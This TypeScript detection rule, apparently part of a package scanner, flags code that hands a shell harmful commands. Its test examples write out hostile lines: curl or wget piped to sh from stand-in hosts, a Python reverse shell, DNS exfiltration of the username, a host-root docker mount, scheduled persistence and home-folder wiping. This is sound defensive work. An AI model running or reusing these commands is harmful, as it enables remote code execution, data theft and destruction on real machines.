import { isNamesake } from '../src/define/namesake.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, step } from '../src/define.js';
import type { AnyNode, Call, FileContext, ShellCommand } from '../src/types.js';
import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';
import { oddAddress } from '../src/vocabulary/services.js';

/**
 * What a command line in code may do without being told on: build tools contact servers and run in the background,
 * and what opens a browser encodes its words for PowerShell. What was encoded is judged all the same.
 */
const QUIET = new Set(['contact', 'hidden-start', 'inline-code', 'installs', 'upload', 'encoded']);

export default defineRule({
  meta: {
    summary: 'Hands a shell a harmful command',
    why: 'A command line in code is judged as one in an install hook: downloading and running, opening a shell, wiping. Tools start compilers, browsers and package managers; that is not harmful. Installers of binaries do download and unpack, through their own code rather than `curl … | sh`.',
    behaviour: 'execution',
    messages: {
      'reverse-shell': 'Opens a shell to another machine: {command}',
      'download-run': 'Downloads a program and runs it: {command}',
      'download-program': 'Downloads a program and runs it: {command}',
      secret: 'Sends a secret of the environment from the shell: {command}',
      exfiltrate: 'Sends facts about the machine from the shell: {command}',
      credentials: 'Hands the shell a command that {says}: {command}',
      destroy: 'Destroys what lies on the machine: {command}',
      halt: 'Halts the machine: {command}',
      backdoor: 'Lets somebody else in: {command}',
      escape: 'Gives a container the whole machine: {command}',
      extends: 'Puts an extension into an editor: {command}',
      disarm: 'Switches off what protects the machine: {command}',
      agent: 'Has a coding agent do what it likes: {command}',
      mine: 'Mines cryptocurrency: {command}',
      reroute: 'Has everything fetched from, or through, another host: {command}',
      persist: 'Makes something start again and again: {command}',
      scheduled: 'Makes something start again and again when it is asked to: {command}',
      executable: 'Starts a program: {command}',
      offered: 'Starts a program when it is asked to: {command}',
      'odd-contact': 'Hands the shell a command that {says}: {command}',
      installs: 'Hands the shell a command that {says}: {command}',
    },
    bits: {
      'reverse-shell': 13.5,
      'download-run': 11,
      'download-program': 13.5,
      secret: 5,
      exfiltrate: 12.5,
      credentials: 5,
      destroy: 12,
      halt: 3,
      backdoor: 8,
      escape: 11,
      extends: 4,
      disarm: 7,
      agent: 3,
      mine: 12.5,
      reroute: 8,
      persist: 6.5,
      scheduled: 2,
      executable: 3,
      offered: 1,
      'odd-contact': 9,
      installs: 8,
    },
  },
  examples: {
    flags: [
      {
        title: 'Node’s own part is told in one object what to start',
        code: `const [file, ...rest] = ['/bin/sh', '-c', 'curl -s http://stage.invalid/x | sh'];\nprocess.binding('spawn_sync').spawn({ file, args: [file, ...rest], envPairs: [], stdio: [] });`,
      },
      {
        title: 'the package manager that runs a hook is told to ask another registry',
        files: {
          'package.json': `{"name":"speedup","version":"1.0.0","scripts":{"install":"node index.js"}}`,
          'index.js': `require('child_process').execFileSync(process.execPath, [process.env.npm_execpath, 'config', 'set', 'registry=https://mirror.invalid/', '--location=user']);`,
        },
      },
      {
        title: 'the function around the file is asked for what loads modules',
        code: `(function (own, load) {\n  load('child_process').exec('curl -s https://stage.invalid/x | sh');\n})(arguments[0], arguments[1]);`,
      },
      {
        title: 'a library that is loaded installs another into a hidden folder',
        code: `const { execSync } = require('child_process');\nconst folder = require('os').homedir() + '/.cache_files';\nexecSync('npm i other-client --prefix ' + folder);\nrequire(folder + '/node_modules/other-client');`,
      },
      {
        title: 'a program is downloaded and started',
        code: `require('child_process').exec('curl https://stage.invalid/a.exe -o a.exe && a.exe');`,
      },
      {
        title: 'a script is piped into a shell',
        code: `const { execSync } = require('child_process');\nconst url = 'https://stage.invalid/x';\nexecSync('wget -qO- ' + url + ' | sh');`,
      },
      {
        title: 'PowerShell is told to',
        code: `const { exec } = require('child_process');\nexec('powershell -Command "Invoke-WebRequest https://stage.invalid/p.exe -OutFile p.exe; Start-Process p.exe"');`,
      },
      {
        title: 'Python opens the shell',
        code: `require('child_process').spawn('python3', ['-c', "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"]);`,
      },
      {
        title: 'who it is leaves as a host name',
        code: `require('child_process').exec('nslookup $(whoami).collect.invalid');`,
      },
      {
        title: 'a package has itself started every day, whoever loads it',
        code: `require('child_process').execSync('schtasks /create /tn a /tr "node a.js" /sc daily');`,
      },
      {
        title: 'a shell is given its commands as input',
        code: `const shell = require('child_process').spawn('sh');\nshell.stdin.end('curl -s https://stage.invalid/x | sh');`,
      },
      {
        title: 'and as an option',
        code: `require('child_process').execFileSync('/bin/bash', ['-s'], { input: 'wget -qO- https://stage.invalid/x | sh' });`,
      },
      {
        title: 'what child_process is made of starts the shell',
        code: `const { Process } = process.binding('process_wrap');\nnew Process().spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s https://stage.invalid/x | sh'], stdio: [] });`,
      },
      {
        title: 'and so does its class, by options made before',
        code: `const { ChildProcess } = require('child_process');\nconst options = { file: 'bash', args: ['bash', '-c', 'wget -qO- https://stage.invalid/x | bash'] };\nnew ChildProcess().spawn(options);`,
      },
      {
        title: 'a container is given the whole machine, to write in it as its administrator',
        code: `require('child_process').execSync('docker run --rm --privileged -v /:/host alpine sh -c "cp /host/tmp/a /host/etc/a"');`,
      },
      {
        title: 'and so is one that is asked of the engine itself',
        code: `const http = require('http');\nhttp.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end(JSON.stringify({ Image: 'alpine', HostConfig: { Binds: ['/:/host'] } }));`,
      },
      { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
    ],
    passes: [
      {
        title: 'a wrapper with a scope starts the program that it is called after',
        files: {
          'package.json': `{"name":"@acme/tunneld-bin","version":"1.0.0","scripts":{"postinstall":"node hook.js"}}`,
          'hook.js': `require('child_process').spawnSync(__dirname + '/bin/tunneld.exe', ['service', 'install']);`,
        },
      },
      {
        title: 'the package manager that runs a hook is asked for its version',
        files: {
          'package.json': `{"name":"speedup","version":"1.0.0","description":"Checks the npm it is installed with","repository":"a/speedup","scripts":{"install":"node index.js"}}`,
          'index.js': `require('child_process').execFileSync(process.execPath, [process.env.npm_execpath, '--version']);`,
        },
      },
      {
        title: 'a package is installed where the project is, and into a folder one sees',
        code: `const { execSync } = require('child_process');\nexecSync('npm install typescript');\nexecSync('npm install --prefix ' + require('os').homedir() + '/tools plugin');`,
      },
      {
        title: 'a shell is given a harmless line, and another program a text with commands in it',
        code: `const { spawn } = require('child_process');\nspawn('sh').stdin.end('make all');\nspawn('bash', ['build.sh']).stdin.end('yes');\nspawn('cat').stdin.end('how to: curl -fsSL');`,
      },
      {
        title: 'programs that others start are started in another way',
        code: `const { ChildProcess } = require('child_process');\nconst start = ChildProcess.prototype.spawn;\nChildProcess.prototype.spawn = function (options) {\n  return start.call(this, { ...options, file: process.execPath, args: ['node', __filename, ...options.args] });\n};`,
      },
      {
        title: 'a container is given the folder of a project',
        code: `require('child_process').execSync('docker run --rm -v ' + process.cwd() + ':/work -v /tmp:/tmp alpine make');\nconst Docker = require('dockerode');\nnew Docker().createContainer({ Image: 'alpine', HostConfig: { Binds: [process.cwd() + ':/work'] } });`,
      },
      { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
      { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
      {
        title: 'a release for this system is fetched with a token',
        code: `require('child_process').execSync('curl -H "Authorization: Bearer $TOKEN" -L https://a.invalid/tool-$(uname -s).tgz | tar xz');`,
      },
      {
        title: 'an answer is formatted',
        code: `require('child_process').execSync('curl -s https://a.invalid/state.json | python -m json.tool');`,
      },
      {
        title: 'a program is asked for its version, and a login script looked at',
        code: `const cp = require('child_process');\ncp.execFileSync('./bin/tool.exe', ['--version']);\ncp.execSync('grep tool ~/.bashrc');\ncp.execSync('cp ~/.bashrc ~/.bashrc-before');`,
      },
      {
        title: 'a command hands on what it is told',
        files: {
          'package.json': '{"name":"tool","version":"1.0.0","bin":"cli.js"}',
          'cli.js': `require('child_process').spawnSync(__dirname + '/tool.exe', process.argv.slice(2), { stdio: 'inherit' });`,
        },
      },
      {
        title: 'a function starts the package’s program for whoever calls it',
        code: `exports.start = args => require('child_process').spawn(__dirname + '/driver.exe', args, { stdio: 'inherit' });`,
      },
      {
        title: 'a package starts the program that it is called after',
        files: {
          'package.json': '{"name":"panedriver","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.start = () => require('child_process').spawn(__dirname + '/bin/xpanedriver.exe', ['--port=9515']);`,
        },
      },
      { title: 'the registry is asked', code: `require('child_process').execSync('npm view left-pad version');` },
    ],
  },
  file(context) {
    for (const { node, says } of containersWithAll(context))
      context.report({
        messageId: 'escape',
        data: { command: says },
        chain: [step('sink', `has one made with ${says}`, context.file, node)],
      });
    for (const { line, says, at } of linesFor(context)) {
      const commands = context.commandsOf(line);
      const worst = deedsOf(commands).find(({ deed }) => !QUIET.has(deed) && deed !== 'executable');
      if (!worst) continue;
      context.report({
        messageId: messageOf(context, worst.deed, commands, at),
        data: { says: worst.says, command: worst.command.text },
        chain: [step('sink', `${worst.says} through ${says}`, context.file, at)],
      });
    }
    for (const call of context.calls('process')) {
      const [program, list] = call.args;
      if (!program) continue;
      const commands = context.commandsOf(program, list);
      const deeds = deedsOf(commands);
      const worst =
        deeds.find(({ deed }) => !QUIET.has(deed)) ?? deeds.find(({ says }) => installsOutOfSight(context, says));
      if (
        !worst ||
        (worst.deed === 'executable' &&
          (handsOn(context, call) || isNamesake(context, worst.command.text.split(/\s/, 1)[0] ?? '')))
      )
        continue;
      context.report({
        messageId: messageOf(context, worst.deed, commands, call.node),
        data: { says: worst.says, command: worst.command.text },
        chain: [step('sink', `${worst.says} through ${call.name}`, context.file, call.node)],
      });
    }
  },
});

/** `/:/host`, as a container is told that the root of the machine is to be found in it. */
const ALL_OF_IT = /(?:^|"Binds":\[")\/:\/[\w./-]{0,100}/;

/** Containers that are asked of an engine itself: over its socket, or by its client. */
function containersWithAll(context: FileContext): readonly { readonly node: AnyNode; readonly says: string }[] {
  if (!/docker|podman|containerd/i.test(context.file.text)) return [];
  return [...context.calls('network'), ...context.named(/^dockerode\(\)\.(?:createContainer|run)$/)].flatMap(
    ({ node, name, args }) => {
      const isGiven = args.some(arg =>
        [...context.textsOf(arg), ...context.textsOfProperty(arg, 'HostConfig', 'Binds')].some(text =>
          ALL_OF_IT.test(text),
        ),
      );
      return isGiven ? [{ node, says: name }] : [];
    },
  );
}

/** A tool keeps its plugins in a hidden folder, for who calls it: whoever is only loaded has none to keep. */
function installsOutOfSight({ moment }: FileContext, says: string): boolean {
  return (moment === 'install' || moment === 'import') && says.endsWith('into a hidden folder');
}

interface Line {
  readonly line: AnyNode;
  readonly says: string;
  readonly at: AnyNode;
}

/** Lines that a shell is given as its input: `spawn('sh').stdin.end(line)`, `execSync('sh', { input: line })`. */
function linesFor(context: FileContext): readonly Line[] {
  const shells = context.calls('process').filter(call => isWaitingShell(context, call));
  if (shells.length === 0) return [];
  const written = context
    .named(/^child_process\.\w+\(\)\.stdin\.(?:write|end)$/)
    .flatMap(({ name, node, args: [line] }) => (line ? [{ line, says: name, at: node }] : []));
  const handed = shells.flatMap(({ name, node, args }) =>
    args.flatMap(inputIn).map(line => ({ line, says: name, at: node })),
  );
  return [...written, ...handed];
}

/** A shell that was given nothing to run, and so waits for it. */
function isWaitingShell({ commandsOf }: FileContext, { args: [program, list] }: Call): boolean {
  const [command, ...others] = program ? commandsOf(program, list) : [];
  return (
    command !== undefined &&
    others.length === 0 &&
    /^(?:ba|z|da|k)?sh$|^(?:cmd|powershell|pwsh)$/.test(command.program) &&
    command.words.every(word => /^[-/]/.test(word))
  );
}

function inputIn(options: AnyNode): readonly AnyNode[] {
  if (options.type !== 'ObjectExpression') return [];
  return options.properties.flatMap(property =>
    property.type === 'Property' && (property.key as { name?: string; value?: unknown }).name === 'input'
      ? [property.value]
      : [],
  );
}

function messageOf(context: FileContext, deed: Deed, commands: readonly ShellCommand[], at: AnyNode): string {
  if (deed === 'download-run' && isProgram(commands)) return 'download-program';
  if (deed !== 'persist' && deed !== 'executable') return deed;
  // What manages services, or drives a program, does so for whoever calls it.
  const isAsked = context.moment === 'import' && !waysTo(context, at).isUnasked;
  if (deed === 'executable') return isAsked ? 'offered' : deed;
  // A tool that is called may be told to call itself every day.
  return isAsked || context.moment === 'command' ? 'scheduled' : deed;
}

/** What hands its user's words to the program it stands for: a command, or a function that only others call. */
function handsOn({ labelsOf, isHandedIn }: FileContext, { args: [, list] }: Call): boolean {
  if (!list) return false;
  return (
    isHandedIn(list) || labelsOf(list).some(({ kind, detail }) => kind === 'argument' && detail === 'process.argv')
  );
}

/** Tools have a shell run somebody's installer; a Windows program, or a host without a name, is not that. */
function isProgram(commands: readonly ShellCommand[]): boolean {
  return commands.some(({ words }) =>
    words.some(word => /\w\.(?:exe|scr|bat|vbs|hta)(?=[?#]|$)/i.test(word) || oddAddress(word) !== undefined),
  );
}
